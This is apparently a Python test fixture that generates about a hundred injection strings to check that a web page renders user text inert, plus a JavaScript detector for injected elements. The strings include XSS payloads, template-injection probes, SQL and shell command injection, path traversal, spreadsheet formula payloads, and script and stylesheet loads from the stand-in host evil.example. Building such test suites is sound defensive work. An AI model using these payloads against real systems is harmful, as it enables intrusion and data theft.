"""What nobody is called: some hundred texts that would be markup, script, address or template, if a
page took them for more than text. Made by rule, so that each way in meets each thing to do."""

from itertools import product

RUN = "window.__ran=1"

# Where a text may stand, and how it would get out of there.
WAYS_OUT = (
    "", '"', "'", '">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "-->",
    "]]>", "</option></select>", "</svg>", "</template>", '\\"}}', "</p></div></dialog>",
)  # fmt: skip
# What it would do there.
DEEDS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    "<script src=//evil.example/pwned></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x",
    f"<math><mtext><img src=x onerror={RUN}></math>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN} accesskey=x>x</a>",
    "<base href=//evil.example/pwned/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/pwned>",
    "<link rel=stylesheet href=//evil.example/pwned>",
    "<form action=//evil.example/pwned><button autofocus>x",
    "<object data=//evil.example/pwned></object>",
    '<b hx-get="/pwned" hx-trigger="load">x</b>',
    '<b data-hx-post="/pwned" data-hx-trigger="load">x</b>',
    f"<b hx-on::load={RUN} hx-trigger=load>x</b>",
)
# How one would speak from inside of a tag: by each event, and by each word of htmx.
EVENTS = (
    "onfocus", "onblur", "onclick", "onpointerenter", "onmouseover", "onanimationstart", "oncopy",
    "ontransitionend", "onkeydown", "oninput", "onload", "onerror", "ontoggle", "onbeforetoggle",
    "onscroll", "onwheel", "onsubmit", "onreset", "onselect", "oncontentvisibilityautostatechange",
)  # fmt: skip
INSIDE = (
    *(f"{quote} autofocus {event}={RUN} x={quote}" for event in EVENTS for quote in "\"'"),
    *(
        f'" {prefix}hx-{word}="{value}" {prefix}hx-trigger="load" x="'
        for prefix in ("", "data-")
        for word, value in (
            ("get", "/pwned"), ("post", "/pwned"), ("delete", "/pwned"), ("boost", "true"),
            ("vals", f"js:{{a:{RUN}}}"), ("headers", f"js:{{a:{RUN}}}"), ("on:click", RUN),
            ("on::load", RUN), ("ext", "pwned"), ("swap-oob", "true"), ("include", "*"),
        )
    ),
)  # fmt: skip
ADDRESSES = tuple(
    f"{scheme}{RUN}//"
    for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "javascript&colon;",
        "&#106;avascript:", "\\u006aavascript:", "%6Aavascript:", "vbscript:",
        "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "blob:", "//evil.example/",
        "\\\\evil.example\\", "https:evil.example/", "view-source:",
    )
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% print(7*7) %}", "{# 7*7 #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{7*7}}}",
    "[[7*7]]", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ self.__init__.__globals__ }}",
    "{{ frame.csrf_token }}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endblock %}",
    "{ $name }", "{ -brand }", "{\"{\"}", "{0}{name}%s%d%n", "%(name)s", "$name", "@{x}", "*{x}",
)  # fmt: skip
STYLES = tuple(
    f"{start}{rule}"
    for start in ("", '" style="', "x;}</style><style>")
    for rule in (
        "*{background:url(//evil.example/pwned)}", "@import'//evil.example/pwned'",
        f"width:expression({RUN})", "color:red;position:fixed;inset:0",
    )
)  # fmt: skip
QUOTED = (
    '","x":"', "'],['", "\\", '\\"', "\\u003cscript\\u003e", '{"__proto__":{"x":1}}', "[]", "{}",
    '":{"hx-get":"/pwned"}', "\\x3cscript\\x3e", "&quot;,&quot;", "&lt;script&gt;", "&amp;amp;",
    "&#x3c;script&#x3e;", "%3Cscript%3E", "%00%0d%0aSet-Cookie:x=1", "&#0;&#1114112;", "<", ">",
    "&", '"', "'", "<!--", "<![CDATA[", "<?xml", "</", "<\\/script>",
)  # fmt: skip
LETTERS = (
    "\u202egnp.exe\u202c", "\u2066\u2067mixed\u2069", "\u200fabc\u200e", "\u061cabc",
    "\uff1cscript\uff1e", "\u2039script\u203a", "\ufe64script\ufe65", "\u02bascript\u02ba",
    "\u0130\u0131\u017f\u212a", "\u1e9e\ufb03", "A\u0300\u0301\u0302\u0303\u0304" * 12,
    "\u0e47" * 40, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 6, "\U0001f3f4\u200d\u2620\ufe0f",
    "\U000e0041\U000e0042x", "\ud7ff\ue000x", "\ufdfd" * 20, "\u0627\u0644" * 30, "W" * 120,
    "i" * 120, "\u3000x\u3000", "x\u00a0x", "x\u2028x\u2029x", "\u00c0\u00afx", "\ufffd\ufffex",
    "\u0661\u0662\u0663", "\U0001d7d8\U0001d7d9", "\u00bd\u2155", "\u2764\ufe0f\u200d\U0001f525",
)  # fmt: skip
WORDS = (
    "null", "NULL", "None", "undefined", "NaN", "true", "false", "0", "-1", "1e309", "0x7f", "00",
    "Infinity", "-0", "1/0", "../../../etc/passwd", "C:\\CON", "$(id)", "`id`", "; id", "| id",
    "-- '; DROP TABLE customers; SELECT 'x", "' OR '1'='1", "1; SELECT pg_sleep(9)", "%_%", "*",
    "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "\\N", "constructor", "__proto__", "hasOwnProperty",
    "csrf", "admin", "new", "undefined/edit", "#", "?", "/", ".", "..", ":", "~", "-", "_", ",",
)  # fmt: skip

_ALL = (
    *(out + deed for out, deed in product(WAYS_OUT, DEEDS)),
    *INSIDE, *ADDRESSES, *TEMPLATES, *STYLES, *QUOTED, *LETTERS, *WORDS,
)  # fmt: skip
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(_ALL))
# One of each kind, for what takes longer than a moment.
SAMPLES: tuple[str, ...] = STRINGS[::23]

# Elements and attributes that only such a text can have brought into a page.
MADE_BY_A_TEXT = """
(root) => {
  const said = [];
  const bad = 'script:not([src]), style, iframe, base, object, embed, math, video, marquee, '
    + 'meta[http-equiv], body body, svg script, svg a';
  for (const one of root.querySelectorAll(bad)) said.push(one.outerHTML.slice(0, 200));
  for (const one of root.querySelectorAll('*')) for (const {name, value} of one.attributes) {
    // A chart or a map writes plain ones itself, which need nobody's leave.
    const isDrawn = name === 'style' && !/url|expression|import|pwned|evil/i.test(value);
    const isAct = !isDrawn && (/^on|^style$/i.test(name) || /^(data-)?hx-on/i.test(name));
    const leads = /^(href|src|action|formaction|srcdoc|data|poster|xlink:href)$/i.test(name)
      || /^(data-)?hx-(get|post|put|patch|delete|vals|headers|ext|include)$/i.test(name);
    // What was asked for stands encoded behind the question mark of an address of our own.
    const told = /^\\/(?!\\/)[^\\s"'<>]*$/.test(value) ? value.split('?')[0] : value;
    const isTheirs = /pwned|evil\\.example|script:|__ran/i.test(told);
    if (isAct || (leads && isTheirs)) said.push(`${name}=${value}`.slice(0, 200));
  }
  return said;
}
"""
